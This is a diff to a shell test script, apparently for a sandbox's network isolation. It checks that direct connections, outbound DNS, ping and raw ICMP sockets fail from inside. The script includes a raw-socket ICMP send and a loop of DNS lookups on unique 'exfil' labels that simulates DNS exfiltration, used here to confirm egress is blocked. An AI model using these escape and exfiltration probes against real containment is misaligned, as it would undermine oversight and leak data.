@@ -73,8 +73,10 @@ out=$(s "$noproxy curl -sS --max-time 3 http://$INET_ADDR_ORIGIN/")
 unlike "$out" "aisb-origin" "a direct connection to an origin's real address fails"
 out=$(s "dig +tries=1 +time=2 @$INET_DNS origin.test 2>&1")
 unlike "$out" "ANSWER: 1" "UDP to the internet's DNS server fails"
-out=$(s "ping -c1 -W1 $INET_ADDR_ORIGIN 2>&1; python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b\"\\x08\\0\\xf7\\xff\\0\\0\\0\\0\", (\"$INET_ADDR_ORIGIN\", 0)); print(\"raw-sent\")' 2>&1")
-unlike "$out" "1 received|^raw-sent" "ping and a raw socket get nothing out"
+out=$(s "ping -c1 -W1 $INET_ADDR_ORIGIN 2>&1")
+like "$out" "Network is unreachable|100% packet loss|not permitted" "ping from inside fails"
+out=$(s "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b\"\\x08\\0\\xf7\\xff\\0\\0\\0\\0\", (\"$INET_ADDR_ORIGIN\", 0)); print(\"raw-sent\")' 2>&1")
+like "$out" "Network is unreachable|PermissionError|not permitted" "a raw socket gets nothing out"
 s 'for i in $(seq 1 40); do getent hosts "exfil$i-$RANDOM$RANDOM.leak.invalid"; done; dig +tries=1 +time=1 aaaa-$RANDOM.leak.invalid' >/dev/null
 unlike "$(cat "$INET_DNS_LOG")" "leak\.invalid" "DNS exfiltration with unique labels never reaches the internet's DNS"
 
